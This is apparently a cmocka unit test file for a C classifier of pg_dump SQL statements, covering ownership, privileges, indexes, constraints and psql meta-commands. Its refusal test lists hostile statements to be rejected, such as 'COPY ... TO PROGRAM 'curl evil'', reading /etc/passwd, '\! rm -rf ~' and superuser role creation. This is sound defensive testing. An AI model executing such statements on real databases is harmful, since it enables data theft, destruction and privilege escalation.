/*
 * test_stmtclass.c — unit tests for stmtclass.c: session settings, owner and
 * privilege statements with and without owners, index builds and key
 * constraints, foreign keys, quoted and folded names, psql meta-commands.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdlib.h>
#include <string.h>

#include "sql/stmtclass.h"

/* Classify the one statement in s. */
static void
classify1(const char *s, bool owners, stmt_kind *k)
{
	sql_stmt *st;
	size_t n;
	char err[128];

	assert_int_equal(sql_split(s, strlen(s), &st, &n, err, sizeof(err)), 0);
	assert_int_equal(n, 1);
	stmt_classify(s, &st[0], owners, k);
	free(st);
}

static enum stmt_class
class_of(const char *s, bool owners)
{
	stmt_kind k;
	enum stmt_class c;

	classify1(s, owners, &k);
	c = k.cls;
	stmt_kind_free(&k);
	return c;
}

/* Classify s; check its class and its two tables (NULL: none). */
static void
check(const char *s, enum stmt_class cls, const char *t0, const char *t1, bool shared)
{
	stmt_kind k;

	classify1(s, false, &k);
	assert_int_equal(k.cls, cls);
	if (t0)
		assert_string_equal(k.tables[0], t0);
	else
		assert_null(k.tables[0]);
	if (t1)
		assert_string_equal(k.tables[1], t1);
	else
		assert_null(k.tables[1]);
	assert_int_equal(k.shared_lock, shared);
	stmt_kind_free(&k);
	assert_null(k.tables[0]);
}

static void
test_session_settings(void **state)
{
	(void) state;
	check("SET statement_timeout = 0;", STMT_SESSION, NULL, NULL, false);
	check("set search_path = public;", STMT_SESSION, NULL, NULL, false);
	check("SELECT pg_catalog.set_config('search_path', '', false);", STMT_SESSION, NULL, NULL,
	    false);
	/* an ordinary SELECT, and a set_config that isn't pg_dump's spelling, are run */
	check("SELECT pg_catalog.setval('public.s', 5, true);", STMT_RUN, NULL, NULL, false);
	check("SELECT set_config('a.b', 'c', false);", STMT_RUN, NULL, NULL, false);
}

static void
test_owners_and_privileges(void **state)
{
	static const char *const stmts[] = {
		"GRANT ALL ON TABLE public.t TO bob;",
		"REVOKE ALL ON SCHEMA public FROM PUBLIC;",
		"ALTER DEFAULT PRIVILEGES FOR ROLE bob GRANT SELECT ON TABLES TO alice;",
		"ALTER TABLE public.t OWNER TO bob;",
		"ALTER FUNCTION public.f(integer) OWNER TO \"Bob Smith\";",
	};

	(void) state;
	for (size_t i = 0; i < sizeof(stmts) / sizeof(stmts[0]); i++) {
		assert_int_equal(class_of(stmts[i], false), STMT_SKIP);
		assert_int_equal(class_of(stmts[i], true), STMT_RUN);
	}
	/* a setting named like the clause is not one */
	assert_int_equal(class_of("ALTER FUNCTION public.f() SET app.owner TO 'bob';", false),
	    STMT_RUN);
	assert_int_equal(class_of("ALTER FUNCTION public.f() SET app.owner TO bob;", false), STMT_RUN);
	/* objects named like keywords pg_dump leaves unquoted */
	assert_int_equal(class_of("ALTER TABLE public.set OWNER TO bob;", false), STMT_SKIP);
	assert_int_equal(class_of("ALTER SCHEMA rename OWNER TO bob;", false), STMT_SKIP);
	/* object kinds whose names end in a parenthesis, a number or a keyword */
	assert_int_equal(class_of("ALTER AGGREGATE public.a(*) OWNER TO bob;", false), STMT_SKIP);
	assert_int_equal(class_of("ALTER LARGE OBJECT 16402 OWNER TO bob;", false), STMT_SKIP);
	assert_int_equal(class_of("ALTER OPERATOR FAMILY public.f USING btree OWNER TO bob;", false),
	    STMT_SKIP);
}

static void
test_index_builds(void **state)
{
	(void) state;
	check("CREATE INDEX t_a_idx ON public.t USING btree (a);", STMT_INDEX, "public\x1ft", NULL, true);
	check("CREATE UNIQUE INDEX u ON ONLY public.parent USING btree (id);", STMT_INDEX,
	    "public\x1fparent", NULL, true);
	/* unquoted names fold to lower case; quoted ones keep case, dots and doubled quotes */
	check("CREATE INDEX \"Odd\"\"Idx\" ON Sales.Orders (a);", STMT_INDEX, "sales\x1forders", NULL,
	    true);
	check("CREATE INDEX i ON \"My Schema\".\"T.x\"\"y\" USING gin (doc);", STMT_INDEX,
	    "My Schema\x1fT.x\"y", NULL, true);
	/* an expression index: the parenthesis ends the name */
	check("CREATE INDEX i ON public.t((lower(name)));", STMT_INDEX, "public\x1ft", NULL, true);
}

static void
test_key_constraints(void **state)
{
	(void) state;
	check("ALTER TABLE ONLY public.t\n    ADD CONSTRAINT t_pkey PRIMARY KEY (id);", STMT_INDEX,
	    "public\x1ft", NULL, false);
	check("ALTER TABLE ONLY public.t ADD CONSTRAINT t_u UNIQUE NULLS NOT DISTINCT (a);",
	    STMT_INDEX, "public\x1ft", NULL, false);
	check("ALTER TABLE ONLY public.r ADD CONSTRAINT r_x EXCLUDE USING gist (span WITH &&);",
	    STMT_INDEX, "public\x1fr", NULL, false);
	/* other constraints and other ALTER TABLEs run in place */
	check("ALTER TABLE public.t ADD CONSTRAINT t_ck CHECK ((a > 0)) NOT VALID;", STMT_RUN, NULL,
	    NULL, false);
	check("ALTER TABLE ONLY public.t ALTER COLUMN id SET DEFAULT nextval('public.s'::regclass);",
	    STMT_RUN, NULL, NULL, false);
	check("ALTER TABLE ONLY public.t REPLICA IDENTITY FULL;", STMT_RUN, NULL, NULL, false);
}

static void
test_foreign_keys(void **state)
{
	(void) state;
	check("ALTER TABLE ONLY public.c\n    ADD CONSTRAINT c_p_fkey FOREIGN KEY (p) "
	    "REFERENCES public.p(id) ON DELETE CASCADE;", STMT_FKEY, "public\x1f" "c", "public\x1fp",
	    false);
	check("ALTER TABLE \"A\".\"b.c\" ADD CONSTRAINT f FOREIGN KEY (x, y) REFERENCES \"Q\".\"r\"\"s\" "
	    "(x, y) NOT VALID;", STMT_FKEY, "A\x1f" "b.c", "Q\x1fr\"s", false);
	/* no REFERENCES (not pg_dump's output): run in place */
	check("ALTER TABLE ONLY public.c ADD CONSTRAINT f FOREIGN KEY (p);", STMT_RUN, NULL, NULL,
	    false);
}

static void
test_meta_and_others(void **state)
{
	(void) state;
	check("\\restrict abc123\n", STMT_SKIP, NULL, NULL, false);
	check("\\unrestrict abc123\n", STMT_SKIP, NULL, NULL, false);
	check("\\connect other\n", STMT_FOREIGN_META, NULL, NULL, false);
	check("CREATE TRIGGER tr AFTER INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION public.f();",
	    STMT_RUN, NULL, NULL, false);
	check("REFRESH MATERIALIZED VIEW public.mv;", STMT_RUN, NULL, NULL, false);
	check("COMMENT ON INDEX public.i IS 'CREATE INDEX x ON y';", STMT_RUN, NULL, NULL, false);
}

/* stmt_owner_role of the one statement in s (NULL or the role, freed by the caller). */
static char *
owner_of(const char *s)
{
	sql_stmt *st;
	size_t n;
	char err[128], *role;

	assert_int_equal(sql_split(s, strlen(s), &st, &n, err, sizeof(err)), 0);
	assert_int_equal(n, 1);
	role = stmt_owner_role(s, &st[0]);
	free(st);
	return role;
}

static void
test_owner_role(void **state)
{
	static const struct {
		const char *sql, *role;
	} cases[] = {
		{"ALTER TABLE public.film OWNER TO postgres;", "postgres"},
		{"ALTER TABLE ONLY \"My Schema\".t OWNER TO \"App Owner\";", "App Owner"},
		{"ALTER FUNCTION public.f(integer) OWNER TO Alice;", "alice"},
		{"ALTER SCHEMA s OWNER TO \"we\"\"ird\";", "we\"ird"},
		{"ALTER LARGE OBJECT 16401 OWNER TO bob;", "bob"},
		{"ALTER DATABASE d SET app.owner TO 'v';", NULL},
		{"ALTER TABLE t ALTER COLUMN owner SET DEFAULT 1;", NULL},
		{"GRANT ALL ON TABLE t TO bob;", NULL},
		{"CREATE TABLE owner (to_ int);", NULL},
	};

	(void) state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *got = owner_of(cases[i].sql);

		if (cases[i].role)
			assert_string_equal(got, cases[i].role);
		else
			assert_null(got);
		free(got);
	}
}

/* stmt_refusal of the one statement in s */
static const char *
refusal_of(const char *s)
{
	sql_stmt *st;
	size_t n;
	char err[128];
	const char *why;

	assert_int_equal(sql_split(s, strlen(s), &st, &n, err, sizeof(err)), 0);
	assert_int_equal(n, 1);
	why = stmt_refusal(s, &st[0]);
	free(st);
	return why;
}

static void
test_refusal(void **state)
{
	/* what pg_dump writes in the schema sections */
	static const char *const accepted[] = {
		"SET statement_timeout = 0;",
		"SET default_table_access_method = heap;",
		"SELECT pg_catalog.set_config('search_path', '', false);",
		"SELECT pg_catalog.setval('public.t_id_seq', 42, true);",
		"CREATE SCHEMA app;",
		"CREATE TABLE public.t (id integer DEFAULT nextval('s'::regclass));",
		"CREATE OR REPLACE FUNCTION public.f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;",
		"CREATE UNIQUE INDEX i ON public.t USING btree (id);",
		"CREATE CONSTRAINT TRIGGER tr AFTER INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION public.f();",
		"CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA public;",
		"CREATE USER MAPPING FOR app SERVER s OPTIONS (user 'x');",
		"CREATE UNLOGGED TABLE public.u (x int);",
		"ALTER TABLE ONLY public.t ADD CONSTRAINT t_pkey PRIMARY KEY (id);",
		"ALTER TABLE public.t OWNER TO app;",
		"ALTER DEFAULT PRIVILEGES FOR ROLE app GRANT SELECT ON TABLES TO PUBLIC;",
		"COMMENT ON TABLE public.t IS 'x';",
		"SECURITY LABEL FOR selinux ON TABLE public.t IS 'x';",
		"GRANT SELECT ON TABLE public.t TO app;",
		"REVOKE ALL ON SCHEMA public FROM PUBLIC;",
		"REFRESH MATERIALIZED VIEW public.mv;",
		"\\restrict abc",
	};
	/* what an archive someone else made could add */
	static const char *const refused[] = {
		"DROP DATABASE app;",
		"DROP TABLE public.t;",
		"CREATE DATABASE evil;",
		"CREATE ROLE evil SUPERUSER;",
		"CREATE USER evil;",
		"CREATE OR REPLACE TABLESPACE t LOCATION '/tmp';",
		"CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p;",
		"ALTER DATABASE app SET session_preload_libraries = 'evil';",
		"ALTER ROLE app SUPERUSER;",
		"ALTER SYSTEM SET archive_command = 'curl evil';",
		"COPY public.t TO PROGRAM 'curl evil';",
		"COPY public.t FROM '/etc/passwd';",
		"DO $$ BEGIN PERFORM 1; END $$;",
		"CALL public.p();",
		"INSERT INTO public.t VALUES (1);",
		"TRUNCATE public.t;",
		"SELECT pg_catalog.set_config('a', pg_read_file('/etc/passwd'), false);",
		"SELECT pg_terminate_backend(1);",
		"SELECT 1;",
		"GRANT pg_execute_server_program TO app;",
		"REVOKE app FROM other;",
		"SET ROLE postgres;",
		"SET SESSION AUTHORIZATION postgres;",
		"SET LOCAL ROLE postgres;",
		"BEGIN;",
		"LOAD 'evil';",
		"\\! rm -rf ~",
		"\\copy t to program 'x'",
		"WITH x AS (DELETE FROM t RETURNING *) SELECT 1;",
	};

	(void) state;
	for (size_t i = 0; i < sizeof(accepted) / sizeof(accepted[0]); i++)
		if (refusal_of(accepted[i]))
			fail_msg("refused: %s (%s)", accepted[i], refusal_of(accepted[i]));
	for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++)
		if (!refusal_of(refused[i]))
			fail_msg("accepted: %s", refused[i]);
}

static void
test_table_key(void **state)
{
	char *k = stmt_table_key("My Schema", "T.x\"y");

	(void) state;
	assert_string_equal(k, "My Schema\x1fT.x\"y");
	free(k);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_session_settings),
		cmocka_unit_test(test_owners_and_privileges),
		cmocka_unit_test(test_index_builds),
		cmocka_unit_test(test_key_constraints),
		cmocka_unit_test(test_foreign_keys),
		cmocka_unit_test(test_meta_and_others),
		cmocka_unit_test(test_owner_role),
		cmocka_unit_test(test_refusal),
		cmocka_unit_test(test_table_key),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
